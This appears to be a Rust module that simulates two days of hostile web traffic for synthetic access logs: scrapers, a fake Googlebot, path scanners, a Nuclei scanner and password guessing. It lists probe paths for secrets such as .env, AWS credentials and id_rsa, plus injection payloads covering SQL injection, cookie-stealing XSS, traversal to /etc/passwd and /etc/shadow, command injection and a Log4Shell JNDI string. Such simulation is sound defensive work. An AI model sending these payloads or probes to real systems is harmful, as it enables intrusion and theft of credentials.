//! Those one would rather not have: scrapers, scanners, password guessers, and one who wears Googlebot's name.

use super::line::{Hit, Log, at};
use super::rng::Rng;
use super::site::{self, ORIGIN};

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/149.0.0.0 Safari/537.36";
const OLD_CHROME: &str = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.100 Safari/537.36";
const FALSE_GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

/// Paths that scanners try everywhere.
const SCANS: [&str; 36] = [
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/phpmyadmin/index.php",
    "/pma/",
    "/admin.php",
    "/config.php.bak",
    "/backup.zip",
    "/db.sql",
    "/dump.sql.gz",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/solr/admin/info/system?wt=json",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/manager/html",
    "/console/",
    "/telescope/requests",
    "/_ignition/health-check",
    "/.well-known/security.txt",
    "/api/jsonws/invoke",
    "/id_rsa",
    "/web.config",
];

/// What is put where an article number belongs.
const INJECTIONS: [&str; 12] = [
    "/search?q=1%27%20OR%20%271%27=%271",
    "/search?q=1%27%20UNION%20SELECT%20NULL,username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/shop/celadon-cup?size=1;%20DROP%20TABLE%20orders--",
    "/shop/celadon-cup?ref=../../../../etc/passwd",
    "/search?q=1%20AND%20SLEEP(5)",
    "/download?file=....//....//etc/shadow",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/shop/?sort=price%20AND%201=1%20UNION%20ALL%20SELECT%20@@version",
    "/contact?name=%7B%7B7*7%7D%7D&cmd=;cat%20/etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/search?q=$%7Bjndi:ldap://198.51.100.250/a%7D",
];

/// Two days of all of them.
pub(super) fn visit(log: &mut Log, mut rng: Rng) {
    slow_scraper(log, &mut rng);
    fast_scraper(log, &mut rng);
    false_googlebot(log, &mut rng);
    scan(log, &mut rng, "203.0.113.9", OLD_CHROME, at(0, 4, 12));
    scan(log, &mut rng, "198.51.100.200", "python-requests/2.32.4", at(1, 2, 47));
    announced_scanner(log, &mut rng);
    inject(log, &mut rng);
    guess_passwords(log, &mut rng);
    tls_on_the_wrong_port(log, &mut rng);
}

/// A browser by its name that reads every page, one a minute, and never loads an image.
fn slow_scraper(log: &mut Log, rng: &mut Rng) {
    let pages = site::all();
    let mut now = at(0, 10, 3);
    for page in pages.iter().cycle().take(430) {
        log.add(Hit::get(now, "198.51.100.61", &page.path, CHROME).answer(200, page.bytes));
        now += rng.between(41_000, 73_000);
    }
}

/// The same in three minutes.
fn fast_scraper(log: &mut Log, rng: &mut Rng) {
    let pages = site::all();
    let mut now = at(1, 16, 31);
    for page in pages.iter().cycle().take(760) {
        let from = format!("{ORIGIN}/");
        log.add(Hit::get(now, "203.0.113.199", &page.path, CHROME).answer(200, page.bytes).from(&from));
        now += rng.between(90, 380);
    }
}

fn false_googlebot(log: &mut Log, rng: &mut Rng) {
    let pages = site::all();
    let mut now = at(1, 9, 15);
    for _ in 0..170 {
        let page = &pages[rng.index(pages.len())];
        log.add(Hit::get(now, "192.0.2.201", &page.path, FALSE_GOOGLEBOT).answer(200, page.bytes));
        now += rng.between(1_500, 9_000);
    }
}

fn scan(log: &mut Log, rng: &mut Rng, client: &str, agent: &str, start: i64) {
    let mut now = start;
    for path in SCANS {
        let status = if path.contains("server-status") { 403 } else { 404 };
        log.add(Hit::get(now, client, path, agent).answer(status, 548));
        now += rng.between(180, 2_400);
    }
}

/// A vulnerability scanner that says so.
fn announced_scanner(log: &mut Log, rng: &mut Rng) {
    let mut now = at(0, 22, 40);
    for path in SCANS.iter().chain(&INJECTIONS).chain(&SCANS[..24]) {
        let agent = "Mozilla/5.0 (compatible; Nuclei/3.4.7; +https://nuclei.projectdiscovery.io)";
        log.add(Hit::get(now, "192.0.2.202", path, agent).answer(404, 548));
        now += rng.between(40, 600);
    }
}

fn inject(log: &mut Log, rng: &mut Rng) {
    let mut now = at(1, 20, 5);
    for _ in 0..44 {
        let status = if rng.chance(20) { 500 } else { 200 };
        log.add(Hit::get(now, "203.0.113.210", rng.pick(&INJECTIONS), CHROME).answer(status, 8_211));
        now += rng.between(700, 6_000);
    }
}

/// Lists of stolen passwords: one address that hurries, and a dozen that take turns.
fn guess_passwords(log: &mut Log, rng: &mut Rng) {
    let from = format!("{ORIGIN}/login");
    let mut guess = |client: &str, now: i64, rng: &mut Rng| {
        let (status, bytes) = if rng.chance(1) { (303, 0) } else { (401, 5_240) };
        log.add(Hit::get(now, client, "/login", CHROME).method("POST").answer(status, bytes).from(&from));
    };
    let mut now = at(0, 3, 2);
    for _ in 0..310 {
        guess("198.51.100.66", now, rng);
        now += rng.between(700, 2_600);
    }
    now = at(1, 1, 30);
    for n in 0..240 {
        guess(&format!("2001:db8:bad:{:x}::1", n % 12), now, rng);
        now += rng.between(4_000, 16_000);
    }
}

/// TLS spoken to a clear port; nginx writes what it got, with escapes.
fn tls_on_the_wrong_port(log: &mut Log, rng: &mut Rng) {
    for _ in 0..6 {
        let mut hit = Hit::get(rng.between(0, at(2, 0, 0)), "192.0.2.203", "", "-").answer(400, 157);
        hit.method = "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03";
        hit.target = "\\xB7\\x11".to_owned();
        hit.version = "\\xA3";
        log.add(hit);
    }
}
